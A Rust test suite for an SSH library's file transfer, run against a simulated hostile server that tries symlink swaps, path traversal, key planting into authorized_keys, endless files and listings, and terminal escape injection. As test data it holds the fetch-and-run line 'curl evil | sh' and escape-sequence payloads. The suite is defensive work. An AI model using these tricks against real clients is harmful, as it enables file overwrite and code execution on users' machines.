//! Pull, Push and commands against a server that lies (the harness's
//! [`HostileServer`]): nothing is ever written outside the destination, no
//! mode outside it changes, files and listings stop at their caps, and every
//! refusal is a clear error with the remote-controlled text escaped.

use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::time::Duration;

use asyncjobs_ssh::sftp::TransferOptions;
use asyncjobs_ssh::{Pull, Push, SshError, SshJob, SshNode};
use asyncjobs_tests::hostile::{ExecEnd, ExecLie, HostileServer, Lies, Node, ENDLESS_PER_READDIR};

use crate::support::Output;

/// A node logging in to `server`.
fn node(server: &HostileServer, out: &Output) -> SshNode {
    SshNode::builder(server.host().ip.clone())
        .port(server.host().port)
        .user("hostile")
        .identity(server.identity())
        .agent(false)
        .known_hosts_file(server.known_hosts())
        .connect_timeout(Duration::from_secs(20))
        .formatter(out.formatter())
        .build()
}

fn start(lies: Lies) -> HostileServer {
    HostileServer::start(lies).unwrap_or_else(|e| panic!("cannot start the hostile server: {e}"))
}

fn serve(tree: Node) -> HostileServer {
    start(Lies {
        tree,
        ..Lies::default()
    })
}

/// What a hostile server must never touch: a private file (mode 600, like
/// `~/.bashrc`) and a private directory (mode 700, like `~/.ssh`) holding a
/// file, all outside the pull's destination.
struct Canary {
    _dir: tempfile::TempDir,
    file: PathBuf,
    private_dir: PathBuf,
}

const CANARY_TEXT: &str = "the user's own content\n";

impl Canary {
    fn new() -> Canary {
        let dir = tempfile::tempdir().unwrap();
        let file = dir.path().join("bashrc");
        std::fs::write(&file, CANARY_TEXT).unwrap();
        std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o600)).unwrap();
        let private_dir = dir.path().join("dot-ssh");
        std::fs::create_dir(&private_dir).unwrap();
        std::fs::write(private_dir.join("authorized_keys"), CANARY_TEXT).unwrap();
        std::fs::set_permissions(&private_dir, std::fs::Permissions::from_mode(0o700)).unwrap();
        Canary {
            _dir: dir,
            file,
            private_dir,
        }
    }

    fn file_target(&self) -> String {
        self.file.to_str().unwrap().to_owned()
    }

    fn dir_target(&self) -> String {
        self.private_dir.to_str().unwrap().to_owned()
    }

    /// Fails the test if anything of the canary changed.
    fn assert_untouched(&self) {
        let mode = |p: &Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o7777;
        assert_eq!(std::fs::read_to_string(&self.file).unwrap(), CANARY_TEXT);
        assert_eq!(mode(&self.file), 0o600, "mode of {}", self.file.display());
        assert_eq!(
            mode(&self.private_dir),
            0o700,
            "mode of {}",
            self.private_dir.display()
        );
        let names: Vec<String> = std::fs::read_dir(&self.private_dir)
            .unwrap()
            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
            .collect();
        assert_eq!(
            names,
            ["authorized_keys"],
            "nothing added to the 700 directory"
        );
        assert_eq!(
            std::fs::read_to_string(self.private_dir.join("authorized_keys")).unwrap(),
            CANARY_TEXT
        );
    }
}

async fn pull(server: &HostileServer, sources: &[&str], dest: &Path) -> Result<(), SshError> {
    pull_with(server, Pull::new(sources.iter().copied(), dest)).await
}

async fn pull_with(server: &HostileServer, command: Pull) -> Result<(), SshError> {
    let out = Output::new();
    let n = node(server, &out);
    let result = SshJob::new(&n)
        .command(command.timeout(Duration::from_secs(60)))
        .execute()
        .await
        .map(|_| ());
    n.close().await;
    result
}

fn message(e: &SshError) -> String {
    let mut text = e.to_string();
    let mut source = std::error::Error::source(e);
    while let Some(s) = source {
        text.push_str(": ");
        text.push_str(&s.to_string());
        source = s.source();
    }
    text
}

/// Every path below `root`, relative, sorted (links not followed).
fn listing(root: &Path) -> Vec<String> {
    let mut out = Vec::new();
    let mut stack = vec![root.to_path_buf()];
    while let Some(dir) = stack.pop() {
        for e in std::fs::read_dir(&dir).unwrap() {
            let p = e.unwrap().path();
            out.push(p.strip_prefix(root).unwrap().display().to_string());
            if std::fs::symlink_metadata(&p).unwrap().is_dir() {
                stack.push(p);
            }
        }
    }
    out.sort();
    out
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_symlink_then_a_directory_of_the_same_name_is_refused_and_writes_nothing_outside() {
    let canary = Canary::new();
    let server = serve(Node::dir([(
        "loot",
        Node::dir([
            ("ssh", Node::link(canary.dir_target())),
            (
                "ssh",
                Node::dir([("authorized_keys", Node::file("attacker key\n"))]),
            ),
        ]),
    )]));
    let local = tempfile::tempdir().unwrap();
    let err = pull(&server, &["loot"], local.path()).await.unwrap_err();
    let text = message(&err);
    assert!(
        text.contains("loot/ssh") && text.contains("twice"),
        "{text}"
    );
    canary.assert_untouched();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_symlink_then_a_file_of_the_same_name_is_refused_and_writes_nothing_outside() {
    let canary = Canary::new();
    let server = serve(Node::dir([(
        "loot",
        Node::dir([
            ("bashrc", Node::link(canary.file_target())),
            ("bashrc", Node::file("curl evil | sh\n")),
        ]),
    )]));
    let local = tempfile::tempdir().unwrap();
    let err = pull(&server, &["loot"], local.path()).await.unwrap_err();
    assert!(message(&err).contains("twice"), "{}", message(&err));
    canary.assert_untouched();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_symlink_left_by_an_earlier_pull_is_replaced_not_written_through() {
    let canary = Canary::new();
    let local = tempfile::tempdir().unwrap();
    // first run: the server hands out links to the canaries
    let first = serve(Node::dir([(
        "loot",
        Node::dir([
            ("bashrc", Node::link(canary.file_target())),
            ("ssh", Node::link(canary.dir_target())),
        ]),
    )]));
    pull(&first, &["loot"], local.path()).await.unwrap();
    let link = local.path().join("loot/bashrc");
    assert!(std::fs::symlink_metadata(&link).unwrap().is_symlink());
    // second run: the same names are now a file and a directory
    let second = serve(Node::dir([(
        "loot",
        Node::dir([
            ("bashrc", Node::file("curl evil | sh\n")),
            (
                "ssh",
                Node::dir([("authorized_keys", Node::file("attacker key\n"))]),
            ),
        ]),
    )]));
    pull(&second, &["loot"], local.path()).await.unwrap();
    canary.assert_untouched();
    assert_eq!(
        std::fs::read_to_string(local.path().join("loot/bashrc")).unwrap(),
        "curl evil | sh\n"
    );
    assert!(std::fs::symlink_metadata(local.path().join("loot/ssh"))
        .unwrap()
        .is_dir());
    assert_eq!(
        std::fs::read_to_string(local.path().join("loot/ssh/authorized_keys")).unwrap(),
        "attacker key\n"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn two_sources_with_the_same_base_name_are_refused_before_anything_is_written() {
    let canary = Canary::new();
    let server = serve(Node::dir([
        ("a", Node::dir([("ssh", Node::link(canary.dir_target()))])),
        (
            "b",
            Node::dir([(
                "ssh",
                Node::dir([("authorized_keys", Node::file("attacker key\n"))]),
            )]),
        ),
    ]));
    let local = tempfile::tempdir().unwrap();
    let err = pull(&server, &["a/ssh", "b/ssh"], local.path())
        .await
        .unwrap_err();
    let text = message(&err);
    assert!(text.contains("ssh") && text.contains("same name"), "{text}");
    assert!(
        listing(local.path()).is_empty(),
        "{:?}",
        listing(local.path())
    );
    canary.assert_untouched();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn links_from_the_server_are_recreated_as_links_and_never_followed() {
    let canary = Canary::new();
    let server = serve(Node::dir([(
        "loot",
        Node::dir([
            ("up", Node::link("../../../../../../..")),
            ("bashrc", Node::link(canary.file_target())),
        ]),
    )]));
    let local = tempfile::tempdir().unwrap();
    pull(&server, &["loot"], local.path()).await.unwrap();
    assert_eq!(
        std::fs::read_link(local.path().join("loot/bashrc")).unwrap(),
        canary.file
    );
    assert_eq!(listing(local.path()), ["loot", "loot/bashrc", "loot/up"]);
    canary.assert_untouched();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn names_with_slashes_dot_dot_or_control_bytes_are_refused_with_an_escaped_message() {
    let canary = Canary::new();
    for evil in [
        "../escape".to_owned(),
        "a/b".to_owned(),
        "/etc/passwd".to_owned(),
        "evil\x1b]0;pwned\x07".to_owned(),
    ] {
        let server = serve(Node::dir([(
            "loot",
            Node::dir([(evil.clone(), Node::file("x"))]),
        )]));
        let local = tempfile::tempdir().unwrap();
        let result = pull(&server, &["loot"], local.path()).await;
        if evil.contains('\x1b') {
            // a control byte is a legal file name: pulled, but any message about it is escaped
            result.unwrap();
            continue;
        }
        let text = message(&result.unwrap_err());
        assert!(text.contains("not a plain file name"), "{evil:?}: {text}");
        assert!(!text.chars().any(|c| c.is_control()), "{text:?}");
        assert!(listing(local.path()).iter().all(|p| p == "loot"));
    }
    canary.assert_untouched();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn errors_about_remote_names_escape_control_bytes() {
    // a file, then a directory of the same name: refused, and the name quoted safely
    let evil = "x\x1b[2J\x07";
    let server = serve(Node::dir([(
        "loot",
        Node::dir([
            (evil, Node::file("one")),
            (evil, Node::dir(Vec::<(String, Node)>::new())),
        ]),
    )]));
    let local = tempfile::tempdir().unwrap();
    let text = message(&pull(&server, &["loot"], local.path()).await.unwrap_err());
    assert!(text.contains("x\\x1b[2J\\x07"), "{text:?}");
    assert!(!text.chars().any(|c| c.is_control()), "{text:?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_file_whose_reads_never_end_stops_at_its_announced_size() {
    let server = serve(Node::dir([("endless", Node::endless_file(10))]));
    let local = tempfile::tempdir().unwrap();
    let dest = local.path().join("endless");
    pull(&server, &["endless"], &dest).await.unwrap();
    assert_eq!(std::fs::read(&dest).unwrap(), b"AAAAAAAAAA");
    // read-ahead is bounded: a few requests in flight at most
    assert!(
        server.bytes_served() < 16 * 1024 * 1024,
        "{}",
        server.bytes_served()
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_file_announced_empty_stops_at_the_byte_cap_and_leaves_nothing_behind() {
    let server = serve(Node::dir([("endless", Node::endless_file(0))]));
    let local = tempfile::tempdir().unwrap();
    let cap = 1024 * 1024;
    let err = pull_with(
        &server,
        Pull::new(["endless"], local.path()).max_file_size(cap),
    )
    .await
    .unwrap_err();
    let text = message(&err);
    assert!(
        text.contains("endless") && text.contains("1048576"),
        "{text}"
    );
    assert!(
        listing(local.path()).is_empty(),
        "{:?}",
        listing(local.path())
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_file_announced_bigger_than_the_cap_is_refused_before_reading() {
    let server = serve(Node::dir([("huge", Node::endless_file(1 << 40))]));
    let local = tempfile::tempdir().unwrap();
    let err = pull(&server, &["huge"], local.path()).await.unwrap_err();
    let text = message(&err);
    assert!(
        text.contains("huge") && text.contains("1099511627776"),
        "{text}"
    );
    assert_eq!(server.bytes_served(), 0);
    assert!(listing(local.path()).is_empty());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_listing_that_never_ends_is_cut_at_the_entry_cap() {
    let server = serve(Node::dir([("endless", Node::EndlessDir)]));
    let local = tempfile::tempdir().unwrap();
    let err = pull(&server, &["endless"], local.path()).await.unwrap_err();
    let text = message(&err);
    assert!(
        text.contains("endless") && text.contains("entries"),
        "{text}"
    );
    // the reply that crossed the cap was the last one asked for
    let cap = (asyncjobs_ssh::sftp::MAX_LISTING_ENTRIES + ENDLESS_PER_READDIR) as u64;
    assert!(
        server.entries_listed() <= cap,
        "{}",
        server.entries_listed()
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_push_below_a_remote_symlink_removes_the_link_instead_of_writing_through_it() {
    let server = serve(Node::dir([
        ("outside", Node::dir(Vec::<(String, Node)>::new())),
        ("dest", Node::dir([("sub", Node::link("/outside"))])),
    ]));
    let local = tempfile::tempdir().unwrap();
    let src = local.path().join("sub");
    std::fs::create_dir(&src).unwrap();
    std::fs::write(src.join("file"), "payload").unwrap();
    let out = Output::new();
    let n = node(&server, &out);
    SshJob::new(&n)
        .command(Push::new([&src], "dest").options(TransferOptions::default()))
        .execute()
        .await
        .unwrap();
    n.close().await;
    let tree = server.tree();
    let Node::Dir { entries, .. } = &tree else {
        panic!("root is a directory")
    };
    let outside = &entries.iter().find(|(n, _)| n == "outside").unwrap().1;
    assert_eq!(
        outside,
        &Node::dir(Vec::<(String, Node)>::new()),
        "{:?}",
        server.requests()
    );
    let requests = server.requests();
    let removed = requests.iter().position(|r| r == "remove dest/sub");
    let written = requests
        .iter()
        .position(|r| r == "open-write dest/sub/file");
    assert!(
        matches!((removed, written), (Some(r), Some(w)) if r < w),
        "{requests:?}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_bogus_exit_signal_is_reported_escaped_and_cut() {
    let server = start(Lies {
        exec: ExecLie {
            stdout: b"ok \xff\xfe\n".to_vec(),
            stderr: b"\x1b]0;pwned\x07 failing\n".to_vec(),
            end: ExecEnd::Signal {
                name: format!("KILL\x1b[2J{}", "X".repeat(20_000)),
                message: "\x1b[31mred\x07".into(),
            },
        },
        ..Lies::default()
    });
    let out = Output::new();
    let n = node(&server, &out);
    let result = SshJob::new(&n).run("anything").execute().await;
    n.close().await;
    // the command "died" of a signal whose name is made safe and short
    let err = result.unwrap_err();
    let status = err
        .status()
        .expect("a command failure with a status")
        .to_string();
    assert!(
        status.starts_with("killed by signal KILL\\x1b[2JXXX"),
        "{status:?}"
    );
    assert!(status.len() < 100, "{status:?}");
    // the output, invalid UTF-8 included, reached the formatter without a panic
    assert!(out.stdout().contains("ok "), "{:?}", out.stdout());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_huge_banner_neither_hangs_nor_panics_the_connection() {
    let server = start(Lies {
        banner: Some(format!("\x1b[2J{}\n", "B".repeat(30_000))),
        ..Lies::default()
    });
    let out = Output::new();
    let n = node(&server, &out);
    let result = SshJob::new(&n).run("true").execute().await;
    n.close().await;
    // either way the run ends: a command result, or a clear connection error
    if let Err(e) = result {
        assert!(!message(&e).contains('\x1b'), "{e}");
    }
}
